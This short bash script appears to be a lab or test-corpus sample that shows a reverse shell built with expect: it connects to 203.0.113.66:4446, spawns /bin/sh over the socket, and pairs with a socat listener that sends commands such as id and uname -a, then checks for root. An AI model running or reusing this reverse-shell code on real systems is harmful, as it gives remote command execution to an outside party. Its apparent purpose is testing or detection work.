#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=expect,dash far=out ready=out:4446 seconds=18 parts=dns
# expect starts a shell on a terminal of its own and speaks for somebody outside, over its own connection.
# shellcheck disable=SC2016 # expect has its own variables
if [ "$1" = out ]; then (sleep 2; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
cd "$LAB" && timeout 18 expect -c 'log_user 0; set s [socket 203.0.113.66 4446]; fconfigure $s -translation binary -buffering none; spawn -open $s; set net $spawn_id
spawn -noecho /bin/sh; set shell $spawn_id
expect {
	-i $net -re ".+" { send -i $shell -- $expect_out(buffer); exp_continue }
	-i $shell -re ".+" { send -i $net -- $expect_out(buffer); exp_continue }
	-i $shell eof {}
	timeout {}
}'
grep -q uid=0 "$LAB/heard"
